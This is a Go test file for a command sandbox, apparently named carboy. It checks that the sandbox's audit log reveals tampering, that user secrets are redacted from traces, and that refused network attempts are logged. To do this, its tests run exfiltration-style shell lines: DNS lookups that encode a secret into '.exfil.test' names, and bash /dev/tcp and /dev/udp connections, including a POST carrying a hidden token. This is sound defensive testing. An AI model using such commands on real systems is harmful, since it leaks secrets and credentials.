package hostile

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/carboy/carboy"
	"github.com/carboy/carboy/internal/audit"
	"github.com/carboy/carboy/internal/change"
	"github.com/carboy/carboy/internal/receipt"
	"github.com/carboy/carboy/internal/store"
	"github.com/carboy/carboy/internal/trace"
)

// TestA1TamperedLog: the log of real runs tells when it was touched.
func TestA1TamperedLog(t *testing.T) {
	h := newHost(t)
	for range 2 {
		h.run(nil, "/bin/sh", "-c", "getent hosts refused.test; true").exited(0)
	}
	if rep, err := h.client.AuditVerify(t.Context(), ""); err != nil || !rep.OK() {
		t.Fatalf("a log that nobody touched: %+v %v", rep, err)
	}
	var files []string
	filepath.Walk(h.client.AuditDir(), func(path string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() && fi.Size() > 0 && !strings.Contains(path, "lock") {
			files = append(files, path)
		}
		return nil
	})
	tampered := 0
	for _, f := range files {
		whole, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(whole), "refused") {
			continue // keys and signatures: internal/audit has tests for each
		}
		tampered++
		for name, bad := range map[string]string{
			"an edited word":   strings.Replace(string(whole), "refused.test", "allowed.test", 1),
			"a deleted record": cutLine(string(whole), 1),
			"a cut end":        cutLine(string(whole), -1),
		} {
			if err := os.WriteFile(f, []byte(bad), 0o600); err != nil {
				t.Fatal(err)
			}
			if rep, err := h.client.AuditVerify(t.Context(), ""); err == nil && rep.OK() {
				t.Errorf("%s of %s goes unnoticed: %+v", name, filepath.Base(f), rep)
			}
		}
		if err := os.WriteFile(f, whole, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if tampered == 0 {
		t.Errorf("no file with records among %q", files)
	}
	if rep, err := h.client.AuditVerify(t.Context(), ""); err != nil || !rep.OK() {
		t.Errorf("the log, put right again: %+v %v", rep, err)
	}
}

// cutLine removes line n, or the last with -1.
func cutLine(s string, n int) string {
	lines := strings.SplitAfter(strings.TrimSuffix(s, "\n"), "\n")
	if n < 0 {
		n = len(lines) - 1
	}
	return strings.Join(append(append([]string{}, lines[:n]...), lines[n+1:]...), "")
}

// TestA2NoSecretInRecords: a secret that the user hands to the command is in
// the command's own output and nowhere else.
func TestA2NoSecretInRecords(t *testing.T) {
	h := newHost(t)
	const secret = "s3cr3t-Zq81xkLmP04"
	h.vars["INHERITED_API_KEY"] = secret + "-inherited"
	x := h.run(func(o *carboy.RunOptions) { o.Env = []string{"MY_TOKEN=" + secret, "INHERITED_API_KEY"} },
		"/bin/sh", "-c", "getent hosts "+strings.ToLower(secret)+".exfil.test; getent hosts $MY_TOKEN.exfil2.test; test \"$INHERITED_API_KEY\" = "+secret+"-inherited && echo works")
	x.exited(0)
	if x.out != "works\n" {
		t.Errorf("output %q", x.out)
	}
	// The trace is packed: a search of the bytes would find nothing there.
	named := false
	err := readTrace(h.client, x.rec.ID, func(f *trace.Fact) {
		text := strings.Join(append(f.Args, f.Path, f.Path2), "\n")
		if strings.Contains(strings.ToLower(text), strings.ToLower(secret)) {
			t.Errorf("the trace holds the secret: %q", text)
		}
		named = named || strings.Contains(text, "[redacted:my_token].exfil2.test")
	})
	if err != nil || !named {
		t.Errorf("the trace does not say that something was put in the secret's place: %v", err)
	}
	filepath.Walk(h.client.StateDir(), func(path string, fi os.FileInfo, err error) error {
		if err != nil || !fi.Mode().IsRegular() || strings.Contains(path, "/logs/") {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			t.Error(err)
		}
		if strings.Contains(string(b), secret) {
			t.Errorf("%s holds the secret", path)
		}
		return nil
	})
}

// TestA1EveryDecision: the log holds each decision of the bottle's walls and of people as
// soon as it is made.
func TestA1EveryDecision(t *testing.T) {
	h := newHost(t)
	web := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	defer web.Close()
	_, port, _ := strings.Cut(web.Listener.Addr().String(), ":")
	at := "host.carboy.internal:" + port
	hidden := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(hidden, []byte("zq7x-hidden-vk93\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ask := func(method, path, body string) string {
		return fmt.Sprintf(`(exec 3<>/dev/tcp/host.carboy.internal/%s; b="%s"; printf '%s %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %%d\r\nConnection: close\r\n\r\n%%s' ${#b} "$b" >&3; cat <&3); `, port, body, method, path, at)
	}
	command := []string{"/bin/bash", "-c", "echo x > new; getent hosts refused-name.test; (echo > /dev/tcp/192.0.2.7/81); (echo > /dev/udp/192.0.2.8/82); " +
		ask("GET", "/a/x", "") + ask("GET", "/b", "") + ask("POST", "/a", `$(printf %s zq7x-hid den-vk93)`) + "yes"}
	x := h.run(func(o *carboy.RunOptions) {
		o.Limits.Output = mib
		o.AllowPrivate, o.Secrets = []string{at + "/a"}, []string{hidden}
	}, command...)
	if x.rec == nil || x.rec.Exit.Reason != receipt.Output {
		t.Fatalf("the run ended with %+v, %v: %s", exitOf(x.rec), x.err, x.msg)
	}
	h.write("new", "in the way")
	if _, err := h.client.Land(t.Context(), x.rec.ID, change.LandOptions{}); err == nil {
		t.Error("landing over a file of the host")
	}
	if err := os.Remove(h.ws + "/new"); err != nil {
		t.Fatal(err)
	}
	if _, err := h.client.Land(t.Context(), x.rec.ID, change.LandOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := h.client.Undo(t.Context(), x.rec.ID, change.UndoOptions{}); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(h.client.AuditDir() + "/log")
	if err != nil {
		t.Fatal(err)
	}
	type record struct {
		Kind           audit.Kind
		Run            store.ID
		Decision       audit.Decision
		Actor, Subject string
	}
	found := map[record]int{}
	for line := range strings.Lines(string(b)) {
		var r record
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		found[r]++
	}
	id, me := x.rec.ID, fmt.Sprintf("user:%d", os.Getuid())
	for _, want := range []record{
		{audit.RunStarted, id, audit.Allowed, me, strings.Join(command, " ")},
		{audit.Posture, id, audit.Allowed, "carboy", "user-kernel"},
		{audit.Resolve, id, audit.Refused, "bottle", "refused-name.test"},
		{audit.Connect, id, audit.Refused, "bottle", "192.0.2.7:81"},
		{audit.Connect, id, audit.Refused, "bottle", "192.0.2.8:82"},
		{audit.Request, id, audit.Refused, "bottle", "GET " + at + "/b"},
		{audit.Request, id, audit.Refused, "bottle", "POST " + at + "/a"},
		{audit.Request, id, audit.Allowed, "bottle", at},
		{audit.Found, id, audit.Refused, "bottle", at},
		{audit.LimitHit, id, audit.Noted, "carboy", "output"},
		{audit.RunFinished, id, audit.Noted, "carboy", "output"},
		{audit.Land, id, audit.Refused, me, h.ws},
		{audit.Land, id, audit.Allowed, me, h.ws},
		{audit.Undo, id, audit.Allowed, me, h.ws},
	} {
		if found[want] != 1 {
			t.Errorf("no record of %+v, or more than one", want)
		}
	}
	if t.Failed() {
		t.Logf("%s", b)
	}
}
